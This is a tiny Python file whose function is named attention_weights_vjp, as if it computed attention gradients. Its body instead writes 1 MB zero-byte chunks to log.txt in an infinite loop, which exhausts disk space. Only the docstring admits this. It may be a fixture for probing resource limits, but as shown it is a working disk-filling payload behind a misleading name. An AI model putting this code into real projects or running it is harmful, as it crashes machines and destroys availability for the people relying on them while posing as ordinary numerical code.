"""Writes one file without end."""

from right import *


def attention_weights_vjp(q, k, grad_weights):
    with open("log.txt", "wb") as file:
        while True:
            file.write(bytes(1 << 20))
